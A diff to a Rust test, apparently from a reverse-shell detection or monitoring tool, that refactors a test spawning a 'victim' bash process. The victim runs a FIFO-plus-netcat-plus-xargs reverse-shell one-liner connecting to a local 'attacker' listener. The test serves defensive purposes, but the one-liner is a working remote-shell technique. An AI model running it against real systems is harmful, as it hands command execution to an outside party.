@@ -74,11 +74,12 @@ fn one_that_takes_its_time() {
 fn xargs_on_a_fifo() {
     require!("bash", "nc.openbsd");
     Daemon::shared();
-    let attacker = Listener::tcp();
+    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
     let port = attacker.port();
     let line = format!(
-        "cd $(mktemp -d); mkfifo f; nc.openbsd 127.0.0.1 {port} <f | \
-         xargs -I{{}} sh -c '{{}} 2>&1; sleep 0.1' >f"
+        "cd {}; mkfifo f; nc.openbsd 127.0.0.1 {port} <f | \
+         xargs -I{{}} sh -c '{{}} 2>&1; sleep 0.1' >f",
+        directory.path().display()
     );
     let victim = Victim::start("/bin/bash", &["-c", &line]);
     let mut session = attacker.accept();
